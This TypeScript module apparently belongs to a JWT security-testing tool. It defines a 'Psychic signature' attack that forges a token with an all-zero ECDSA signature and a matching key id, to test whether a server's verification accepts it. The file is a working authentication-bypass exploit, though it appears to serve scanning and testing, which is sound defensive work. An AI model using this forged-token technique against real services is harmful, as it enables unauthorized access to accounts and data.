import { base64url } from 'jose'
import { algorithmOf, isKeyFor } from '../../pipeline/keys/algorithms'
import { defineAttack } from '../attack'
import { algOf, segmentOf, valueIn, withMembers } from '../parts'

export default defineAttack({
  id: 'zero-signature',
  name: 'Psychic signature',
  hopes: 'that the server’s ECDSA takes a signature of zeros for one of anything.',
  scenario: 'signature-zeros',
  async apply({ header, payload, keys }) {
    const alg = algorithmOf(algOf({ header }))?.kty === 'EC' ? algOf({ header }) : 'ES256'
    const algorithm = algorithmOf(alg)
    // It is tried on a key of that kind, where the issuer has one.
    const fitting = keys.filter((key) => algorithm && isKeyFor(algorithm, key))
    const kid = valueIn(header, 'kid')
    const named = fitting.find((key) => key.kid === kid) ?? fitting[0]
    const text = withMembers(header, { alg, ...(named && { kid: named.kid }) })
    const zeros = new Uint8Array(algorithm?.signatureOctets[0] ?? 64)
    return {
      token: `${segmentOf(text)}.${segmentOf(payload)}.${base64url.encode(zeros)}`,
      did: `The signature is ${zeros.length} zero bytes, under ${alg}.`,
    }
  },
})
